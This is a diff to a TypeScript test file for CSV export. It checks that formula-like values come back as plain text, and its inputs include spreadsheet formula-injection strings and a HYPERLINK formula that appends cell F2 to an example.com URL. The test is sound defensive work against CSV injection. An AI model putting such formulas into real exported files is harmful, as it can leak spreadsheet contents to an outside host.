@@ -15,7 +15,18 @@ test('rows become lines', async () => {
 const cellOf = async (text: string) => Papa.parse<[string]>(await csvText([[text]])).data[0]?.[0];
 
 test.each([
-  ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠A1', "'=1"],
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '＝1',
+  '＋1',
+  '－1',
+  '＠A1',
+  "'=1",
   '=HYPERLINK("http://example.com?"&F2,"\nopen")',
 ])('the formula %j is text in a spreadsheet, and comes back as it was', async (text) => {
   const cell = await cellOf(text);
